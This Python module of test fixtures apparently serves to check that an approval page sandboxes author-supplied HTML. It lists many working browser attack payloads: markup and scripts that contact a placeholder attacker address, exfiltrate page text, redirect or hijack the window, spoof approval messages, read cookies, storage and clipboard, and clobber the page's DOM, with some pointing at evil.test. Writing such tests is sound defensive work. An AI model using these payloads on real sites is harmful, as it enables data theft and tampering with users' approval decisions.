# ruff: noqa: E501 (attacks stand as they are sent)
"""What an author's code may put on an approval page to do what it should not.

`AWAY` stands for an address of the attacker's, of which each entry has one of its own.
"""

from collections.abc import Mapping

MARKUP: Mapping[str, str] = {
    "img": '<img src="AWAY">',
    "srcset": '<img src="AWAY" srcset="AWAY 2x">',
    "picture": '<picture><source srcset="AWAY"><img src="AWAY"></picture>',
    "input": '<input type="image" src="AWAY">',
    "poster": '<video poster="AWAY" src="AWAY" autoplay muted></video>',
    "audio": '<audio src="AWAY" autoplay></audio><video><track src="AWAY" default></video>',
    "object": '<object data="AWAY"></object><embed src="AWAY">',
    "iframe": '<iframe src="AWAY"></iframe>',
    "srcdoc": '<iframe srcdoc="&lt;img src=AWAY&gt;"></iframe>',
    "stylesheet": '<link rel="stylesheet" href="AWAY">',
    "icon": '<link rel="icon" href="AWAY"><link rel="manifest" href="AWAY">',
    "preload": '<link rel="preload" as="image" href="AWAY"><link rel="modulepreload" href="AWAY">',
    "prefetch": '<link rel="prefetch" href="AWAY"><link rel="prerender" href="AWAY">',
    "preconnect": '<link rel="preconnect" href="AWAY"><link rel="dns-prefetch" href="AWAY">',
    "import": '<style>@import url("AWAY");</style>',
    "background": '<style>body { background: url("AWAY") }</style><p style="background:url(AWAY)">',
    "font": '<style>@font-face { font-family: f; src: url("AWAY") } p { font-family: f }</style><p>x',
    "selector": '<style>input[value^=a] { background: url("AWAY") }</style><input value="abc">',
    "svg": '<svg><image href="AWAY"/><use href="AWAY#x"/><script href="AWAY"></script></svg>',
    "filter": '<svg><filter id="f"><feImage href="AWAY"/></filter><g filter="url(#f)">x</g></svg>',
    "refresh": '<meta http-equiv="refresh" content="0; url=AWAY">',
    "base": '<base href="AWAY"><img src="picture.png"><a href="next">next</a>',
    "attribute": '<body background="AWAY"><table background="AWAY"><td background="AWAY">x</table>',
    "script": '<script src="AWAY"></script><script>new Image().src = "AWAY"</script>',
    "handlers": '<img src="x" onerror="new Image().src=\'AWAY\'"><svg onload="location=\'AWAY\'">'
    "<details open ontoggle=\"location='AWAY'\">x</details><input autofocus onfocus=\"location='AWAY'\">",
    "shadow": '<div><template shadowrootmode="open"><style>@import "AWAY";</style></template></div>',
}
"""Markup that fetches or goes somewhere by itself."""

PRESSED: Mapping[str, str] = {
    "link": '<a href="AWAY">press me</a>',
    "top": '<a href="AWAY" target="_top">press me</a>',
    "blank": '<a href="AWAY" target="_blank">press me</a>',
    "ping": '<a href="#here" ping="AWAY">press me</a>',
    "script": "<a href=\"javascript:location='AWAY'\">press me</a>",
    "form": '<form action="AWAY"><input name="a" value="b"><button>Approve</button></form>',
    "post": '<form action="AWAY" method="post" target="_top"><button>Approve</button></form>',
    "download": '<a href="data:text/plain,x" download="x.exe">press me</a>',
}
"""Markup that does so when it is pressed."""

SENDING: Mapping[str, str] = {
    "fetch": 'await fetch("AWAY")',
    "no-cors": 'await fetch("AWAY", {mode: "no-cors", method: "POST", body: document.body.innerText})',
    "keepalive": 'await fetch("AWAY", {mode: "no-cors", keepalive: true})',
    "xhr": 'const x = new XMLHttpRequest(); x.open("GET", "AWAY"); x.send()',
    "beacon": 'navigator.sendBeacon("AWAY", "x")',
    "websocket": 'new WebSocket("AWAY".replace("http", "ws"))',
    "events": 'new EventSource("AWAY")',
    "image": 'new Image().src = "AWAY"',
    "font": 'await new FontFace("f", "url(AWAY)").load()',
    "module": 'await import("AWAY")',
    "worker": 'const s = new Blob([`importScripts("AWAY")`]); new Worker(URL.createObjectURL(s))',
    "shared": 'new SharedWorker("AWAY")',
    "service": 'await navigator.serviceWorker.register("AWAY")',
    "style": 'document.body.style.background = "url(AWAY)"',
    "element": 'const s = document.createElement("script"); s.src = "AWAY"; document.body.append(s)',
    "hint": 'const l = document.createElement("link"); l.rel = "prefetch"; l.href = "AWAY";'
    " document.head.append(l)",
    "preconnect": 'const l = document.createElement("link"); l.rel = "preconnect"; l.href = "AWAY";'
    " document.head.append(l)",
    "frame": 'const f = document.createElement("iframe"); f.src = "AWAY"; document.body.append(f)',
    "blank": 'const f = document.createElement("iframe"); document.body.append(f);'
    ' f.contentWindow.fetch("AWAY").catch(() => {})',
    "speculation": 'const s = document.createElement("script"); s.type = "speculationrules";'
    ' s.textContent = JSON.stringify({prefetch: [{urls: ["AWAY"]}]}); document.head.append(s)',
    "media": 'await new Audio("AWAY").play()',
    "report": 'new ReportingObserver(() => {}).observe(); navigator.sendBeacon?.("AWAY")',
    "webrtc": 'const p = new RTCPeerConnection({iceServers: [{urls: "AWAY".replace(/http:..([^/]*).*/,'
    ' "stun:$1")}]}); p.createDataChannel("x"); await p.setLocalDescription(await p.createOffer());'
    " await new Promise(good => setTimeout(good, 500))",
    "eval": 'eval(`new Image().src = "AWAY"`)',
}
"""Scripts that send something to the attacker's server."""

LEAVING: Mapping[str, str] = {
    "location": 'location.href = "AWAY"',
    "replace": 'location.replace("AWAY")',
    "refresh": 'const m = document.createElement("meta"); m.httpEquiv = "refresh";'
    ' m.content = "0; url=AWAY"; document.head.append(m)',
    "form": 'const f = document.createElement("form"); f.action = "AWAY"; document.body.append(f);'
    " f.submit()",
    "link": 'const a = document.createElement("a"); a.href = "AWAY"; document.body.append(a); a.click()',
    "top": 'top.location = "AWAY"',
    "parent": 'parent.location.href = "AWAY"',
    "popup": 'if (window.open("AWAY")) out.textContent = "opened"',
    "blank": 'const a = document.createElement("a"); a.href = "AWAY"; a.target = "_blank"; a.click()',
    "alert": 'alert("pay up")',
    "confirm": 'confirm("pay up"); prompt("password?")',
    "print": "print()",
    "download": 'const a = document.createElement("a"); a.download = "x.exe";'
    ' a.href = URL.createObjectURL(new Blob(["x"])); a.click()',
    "data": "location = \"data:text/html,<script>new Image().src='AWAY'</script>\"",
    "blob": 'location = URL.createObjectURL(new Blob(["<img src=AWAY>"], {type: "text/html"}))',
    "script": "location = \"javascript:new Image().src='AWAY'\"",
    "fullscreen": "await document.documentElement.requestFullscreen()",
    "message": 'for (let i = 0; i < 100; i++) parent.postMessage({decision: "approve"}, "*")',
}
"""Scripts that take the frame, the page or the window somewhere, or get in the reader's way."""

READING: Mapping[str, str] = {
    "cookie": "document.cookie",
    "parent": "parent.document.body.innerHTML",
    "top": "top.location.href",
    "name": "top.name || parent.history.state",
    "element": "frameElement.ownerDocument.title",
    "sibling": "parent.frames[0].document.body.innerHTML",
    "storage": "localStorage.length || sessionStorage.length",
    "database": "await new Promise((g, b) => { const r = indexedDB.open('x'); r.onsuccess = () =>"
    " g('opened'); r.onerror = b; })",
    "caches": "(await caches.keys()).length || 'opened'",
    "cookies": "(await cookieStore.getAll()).length || 'opened'",
    "referrer": "document.referrer",
    "api": "await (await fetch('/jupyter-flows/api/runs', {credentials: 'include'})).text()",
    "page": "await (await fetch(location.href, {credentials: 'include'})).text()",
    "clipboard": "await navigator.clipboard.readText()",
    "opener": "opener && opener.location.href",
}
"""Expressions whose value would be something of the page's, the reader's or the server's."""

CLOBBERING = """
<form id="answer"><input name="form" value="clobbered"><input name="digest" value="clobbered"></form>
<div id="live-state">taken</div><div id="asked">taken</div><a id="notice" name="notice">x</a>
<img name="getElementById"><img name="querySelectorAll"><img name="body"><img id="currentScript">
<input type="hidden" form="answer" name="decision" value="reject">
<button form="answer" name="decision" value="reject">Reject quietly</button>
<label for="message">not this one</label>
<style>button { display: none !important } * { visibility: hidden }</style>
<div style="position: fixed; inset: 0; z-index: 99999; background: red">over all</div>
<div class="yes state buttons" style="position:absolute;top:-2000px;height:9000px;width:9000px">x</div>
<base href="https://evil.test/"><meta http-equiv="refresh" content="0; url=https://evil.test/">
"""
"""Markup that takes the names and the place of the page's own parts."""
